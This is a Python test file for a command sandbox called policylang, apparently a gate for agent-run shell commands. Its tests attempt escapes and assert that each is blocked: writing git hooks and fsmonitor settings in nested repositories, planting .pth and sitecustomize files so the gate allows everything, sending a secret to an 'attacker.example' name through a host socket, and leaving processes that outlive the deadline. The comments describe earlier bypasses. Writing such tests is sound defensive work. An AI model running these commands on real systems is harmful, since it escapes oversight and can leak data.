"""Review DU: the sandbox's search for nested protected names, policylang's own
installation, host service sockets, and processes that leave the shell's tree.

Every test runs real processes in a real bubblewrap sandbox; where bubblewrap cannot
work on this host, the refusal (and that nothing ran) is asserted instead.
"""

from __future__ import annotations

import contextlib
import json
import os
import pathlib
import shlex
import shutil
import signal
import socket
import subprocess
import sys
import sysconfig
import tempfile

import pytest

from policylang.errors import SandboxUnavailableError
from policylang.executor import BubblewrapBackend, run

from .conftest import confined, decision


@pytest.fixture
def workspace(tmp_path: pathlib.Path) -> pathlib.Path:
    ws = tmp_path / "ws"
    ws.mkdir()
    return ws


def _git_init(path: pathlib.Path) -> None:
    path.mkdir(parents=True, exist_ok=True)
    subprocess.run(["git", "init", "-q", str(path)], check=True, capture_output=True)


# -- DU1: the search for nested names never stops silently --------------------------------

NESTED = ("vendor/lib", "node_modules/dep", ".venv/src/pkg", "target/debug/build")


def test_du1_nested_repositories_stay_read_only_past_2000_folders(
    workspace: pathlib.Path,
) -> None:
    # a sandboxed command had made 2,000 empty folders; from then on no nested `.git`
    # was found, and the next command wrote a nested repository's hooks and config,
    # which `git status` then ran outside the sandbox; `.venv`, `node_modules` and
    # `target` had not been searched at all
    _git_init(workspace)
    for repo in NESTED:
        _git_init(workspace / repo)
    for i in range(2100):
        (workspace / f"d{i:04}").mkdir()
    writes = "; ".join(
        f"echo x > {repo}/.git/hooks/post-checkout; git -C {repo} config core.fsmonitor evil"
        for repo in NESTED
    )
    command = f"{writes}; echo ok > made.txt"
    res = confined(command, workspace, BubblewrapBackend(str(workspace)), workspace / "made.txt")
    if res is None:
        return
    assert (workspace / "made.txt").read_text() == "ok\n"
    for repo in NESTED:
        assert not (workspace / repo / ".git" / "hooks" / "post-checkout").exists(), repo
        assert "fsmonitor" not in (workspace / repo / ".git" / "config").read_text(), repo
    assert res.sandbox_write_denied


def test_du1_a_workspace_too_big_to_search_is_refused_not_searched_in_part(
    workspace: pathlib.Path,
) -> None:
    _git_init(workspace / "vendor" / "lib")
    for i in range(150):
        (workspace / f"d{i:03}").mkdir()
    marker = workspace / "made.txt"
    backend = BubblewrapBackend(str(workspace), nested_folders=100)
    command = "echo x > vendor/lib/.git/hooks/post-checkout; echo ok > made.txt"
    with pytest.raises(SandboxUnavailableError) as info:
        run(command, decision=decision(command), cwd=str(workspace), sandbox=backend,
            timeout_s=20)
    message = str(info.value)
    assert "never ran" in message
    assert "more than 100 folders" in message or "cannot be set up" in message
    assert not marker.exists()
    assert not (workspace / "vendor" / "lib" / ".git" / "hooks" / "post-checkout").exists()
    # the same workspace within the limit runs, and the nested repository is kept
    res = confined(command, workspace, BubblewrapBackend(str(workspace), nested_folders=1000),
                    marker)
    if res is None:
        return
    assert marker.read_text() == "ok\n"
    assert not (workspace / "vendor" / "lib" / ".git" / "hooks" / "post-checkout").exists()


_UNLISTABLE = r"""
import pathlib, subprocess, sys
from policylang.decision import Decision, Verdict
from policylang.errors import SandboxUnavailableError
from policylang.executor import BubblewrapBackend, run

ws = pathlib.Path(sys.argv[1])
command = "chmod 755 vendor; echo x > vendor/lib/.git/hooks/post-checkout"
allow = Decision(command=command, verdict=Verdict.ALLOW, retention=None, concurrency_safe=False)
try:
    run(command, decision=allow, cwd=str(ws), sandbox=BubblewrapBackend(str(ws)), timeout_s=20)
except SandboxUnavailableError as error:
    print("refused:", error)
else:
    print("ran")
"""


def test_du1_a_folder_of_ours_that_cannot_be_listed_is_refused() -> None:
    # `chmod 000 vendor` in one run hid the nested repository from the next run's search,
    # which could `chmod 755 vendor` and write its hooks. Root lists a folder of mode 000
    # all the same, so as root the run is made as `nobody` (`setpriv`), whose folder it is
    setpriv = shutil.which("setpriv")
    python = f"/usr/bin/python{sys.version_info.major}.{sys.version_info.minor}"
    env = {k: v for k, v in os.environ.items() if k not in ("PYTHONPATH", "PYTHONHOME")}
    repo = pathlib.Path(__file__).resolve().parents[3]
    if os.geteuid() != 0:
        prefix = [sys.executable]
        env["PYTHONPATH"] = str(repo)
    else:
        assert setpriv is not None, "setpriv (util-linux) is needed to run this as a user"
        assert os.access(python, os.X_OK), f"{python} is needed to run this as a user"
        prefix = [setpriv, "--reuid=65534", "--regid=65534", "--clear-groups", python]
        env["PYTHONPATH"] = os.pathsep.join([str(repo), sysconfig.get_paths()["purelib"]])
    folder = pathlib.Path(tempfile.mkdtemp(prefix="policylang-du1-", dir="/var/tmp"))
    try:
        workspace = folder / "ws"
        workspace.mkdir()
        _git_init(workspace / "vendor" / "lib")
        if os.geteuid() == 0:
            for path in (folder, *workspace.rglob("*"), workspace):
                os.chown(path, 65534, 65534, follow_symlinks=False)
        (workspace / "vendor").chmod(0)
        env["HOME"] = str(folder)
        done = subprocess.run(
            [*prefix, "-c", _UNLISTABLE, str(workspace)], capture_output=True, text=True,
            timeout=120, check=False, env=env, cwd=str(workspace),
        )
        assert done.returncode == 0, done.stderr
        assert done.stdout.startswith("refused:"), (done.stdout, done.stderr)
        if BubblewrapBackend(str(workspace)).probe().ok:
            assert "cannot be listed" in done.stdout, done.stdout
        (workspace / "vendor").chmod(0o755)
        assert not (workspace / "vendor" / "lib" / ".git" / "hooks" / "post-checkout").exists()
    finally:
        with contextlib.suppress(OSError):
            (folder / "ws" / "vendor").chmod(0o755)
        shutil.rmtree(folder, ignore_errors=True)


def test_du1_a_protected_name_made_in_a_subfolder_is_reported(workspace: pathlib.Path) -> None:
    (workspace / "pkg").mkdir()
    command = "echo '{}' > pkg/.mcp.json; echo ok > made.txt"
    res = confined(command, workspace, BubblewrapBackend(str(workspace)), workspace / "made.txt")
    if res is None:
        return
    assert (workspace / "made.txt").read_text() == "ok\n"
    assert "pkg/.mcp.json" in res.protected_changed


# -- DU5: policylang's own installation is read-only in the sandbox ------------------------

_PLANT = r'''
import json, os, sys, sysconfig
import policylang
from policylang.decision import Decision, Verdict
from policylang.executor import BubblewrapBackend, run

ws = sys.argv[1]
backend = BubblewrapBackend(ws)
if not backend.probe().ok:
    print(json.dumps({"probe": False}))
    raise SystemExit(0)
purelib = sysconfig.get_paths()["purelib"]
package = os.path.dirname(policylang.__file__)
command = (
    f"echo 'import os' > {purelib}/aaa_evil.pth; "
    f"echo 'import os' > {purelib}/sitecustomize.py; "
    f"echo '# changed' >> {package}/__init__.py; "
    f"echo 'home = /tmp' >> {sys.prefix}/pyvenv.cfg; "
    "echo ok > made.txt"
)
allow = Decision(command=command, verdict=Verdict.ALLOW, retention=None, concurrency_safe=False)
result = run(command, decision=allow, cwd=ws, sandbox=backend, timeout_s=60)
print(json.dumps({"probe": True, "package": package, "purelib": purelib,
                  "prefix": sys.prefix, "denied": result.sandbox_write_denied}))
'''


def test_du5_the_running_installation_in_the_workspace_stays_read_only(
    workspace: pathlib.Path,
) -> None:
    # policylang installed into the project's own `.venv` (`.venv/bin/policylang hook …`):
    # a sandboxed command had written a `.pth` there that answered `allow` to everything
    venv = workspace / ".venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
    python = venv / "bin" / "python"
    purelib = pathlib.Path(subprocess.run(
        [str(python), "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])"],
        check=True, capture_output=True, text=True).stdout.strip())
    source = pathlib.Path(__file__).resolve().parents[3] / "policylang"
    shutil.copytree(source, purelib / "policylang",
                    ignore=shutil.ignore_patterns("__pycache__"))
    # its dependencies, from the installation running the tests (after the copy)
    (purelib / "deps.pth").write_text(sysconfig.get_paths()["purelib"] + "\n")
    init_before = (purelib / "policylang" / "__init__.py").read_text()
    cfg_before = (venv / "pyvenv.cfg").read_text()
    env = {k: v for k, v in os.environ.items() if k not in ("PYTHONPATH", "PYTHONHOME")}
    done = subprocess.run([str(python), "-c", _PLANT, str(workspace)], capture_output=True,
                          text=True, timeout=120, cwd=str(workspace), check=False, env=env)
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout.strip().splitlines()[-1])
    if not report["probe"]:
        return
    assert pathlib.Path(report["package"]) == purelib / "policylang"  # the copy ran
    assert (workspace / "made.txt").read_text() == "ok\n"
    assert not (purelib / "aaa_evil.pth").exists()
    assert not (purelib / "sitecustomize.py").exists()
    assert (purelib / "policylang" / "__init__.py").read_text() == init_before
    assert (venv / "pyvenv.cfg").read_text() == cfg_before
    assert report["denied"]


# -- DU4: no network means no host service sockets in /run ---------------------------------

_CONNECT = ("python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); "
            "s.connect(sys.argv[1]); s.sendall(b\"c2VjcmV0.attacker.example\"); print(\"sent\")' ")


def test_du4_a_host_service_socket_under_run_is_unreachable_without_network(
    workspace: pathlib.Path,
) -> None:
    # a stand-in for systemd-resolved's `/run/systemd/resolve/io.systemd.Resolve`, nscd's,
    # PostgreSQL's: none was on the list of hidden sockets, so "no network" resolved names
    try:
        folder = pathlib.Path(tempfile.mkdtemp(prefix="policylang-du4-", dir="/run"))
    except OSError:
        pytest.skip("/run is not writable here: no service socket can be made there")
    path = folder / "io.systemd.Resolve"
    server = socket.socket(socket.AF_UNIX)
    try:
        server.bind(str(path))
        path.chmod(0o666)
        server.listen()
        server.settimeout(0.2)
        command = _CONNECT + shlex.quote(str(path)) + "; ls -d /run/lock; echo ok > made.txt"
        res = confined(command, workspace, BubblewrapBackend(str(workspace)),
                        workspace / "made.txt")
        if res is None:
            return
        assert (workspace / "made.txt").read_text() == "ok\n"
        assert "sent" not in res.stdout
        assert "/run/lock" in res.stdout or not os.path.isdir("/run/lock")
        with pytest.raises(TimeoutError):
            server.accept()
        # with the network shared, the host's /run is as it was
        shared = confined(command, workspace,
                           BubblewrapBackend(str(workspace), network=True), workspace / "x")
        assert shared is not None
        assert "sent" in shared.stdout
        server.accept()[0].close()
    finally:
        server.close()
        shutil.rmtree(folder, ignore_errors=True)


def test_du4_files_that_etc_links_lead_to_in_run_stay_readable(workspace: pathlib.Path) -> None:
    # `/etc/resolv.conf -> /run/systemd/resolve/stub-resolv.conf` and the like
    backend = BubblewrapBackend(str(workspace))
    if not backend.probe().ok:
        return
    argv = backend.argv("true", cwd=str(workspace), login=False)
    assert "/run" in [argv[i + 1] for i, a in enumerate(argv) if a == "--tmpfs"]
    for entry in os.scandir("/etc"):
        real = os.path.realpath(entry.path)
        if entry.is_symlink() and real.startswith("/run/") and os.path.isfile(real):
            command = f"cat {shlex.quote(entry.path)} >/dev/null && echo readable"
            res = run(command, decision=decision(command), cwd=str(workspace),
                      sandbox=backend, timeout_s=20)
            assert res.stdout == "readable\n", entry.path


# -- DU7: what a command leaves as the host's own child dies at its deadline ----------------

_HOST = r'''
import json, os, shlex, sys, time
from policylang.decision import Decision, Verdict
from policylang.executor import PlainBackend, own_children, run

own_children()  # as `policylang run` and `policylang mcp` declare
ws, pidfile, how, clone = sys.argv[1:5]
if how == "clone":
    command = f"exec {shlex.quote(sys.executable)} {shlex.quote(clone)} {shlex.quote(pidfile)}"
else:  # a double-forked daemon: orphaned at once
    command = (f"( setsid sh -c 'echo $$ > {shlex.quote(pidfile)}; exec sleep 300' & ); "
               "sleep 100")
allow = Decision(command=command, verdict=Verdict.ALLOW, retention=None, concurrency_safe=False)
result = run(command, decision=allow, cwd=ws, timeout_s=2, sandbox=PlainBackend(workspace=ws))
pid = int(open(pidfile).read())

def state(p):
    try:
        with open(f"/proc/{p}/stat", "rb") as fh:
            raw = fh.read()
    except OSError:
        return None
    fields = raw[raw.rfind(b")") + 2:].split()
    return fields[0].decode(), int(fields[1])

time.sleep(0.3)
print(json.dumps({"timed_out": result.timed_out, "pid": pid, "state": state(pid),
                  "me": os.getpid()}))
'''


@pytest.mark.parametrize("how", ["clone", "double-fork"])
def test_du7_a_process_left_as_the_hosts_child_dies_at_the_deadline(
    workspace: pathlib.Path, how: str,
) -> None:
    # `clone(CLONE_PARENT)` made the host the new process's parent; after `setsid` nothing
    # found it, and it outlived `run`; a double-forked daemon is orphaned the same way
    pidfile = workspace / "pid"
    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    env["PYTHONPATH"] = str(pathlib.Path(__file__).resolve().parents[3])
    clone = pathlib.Path(__file__).resolve().parents[2] / "fixtures" / "clone_parent.py"
    done = subprocess.run([sys.executable, "-c", _HOST, str(workspace), str(pidfile), how,
                           str(clone)],
                          capture_output=True, text=True, timeout=60, check=False, env=env)
    pid = int(pidfile.read_text()) if pidfile.exists() else None
    try:
        assert done.returncode == 0, done.stderr
        report = json.loads(done.stdout.strip().splitlines()[-1])
        assert report["timed_out"]
        # gone, and reaped: no zombie of the host is left
        assert report["state"] is None, report
    finally:
        if pid is not None:
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)
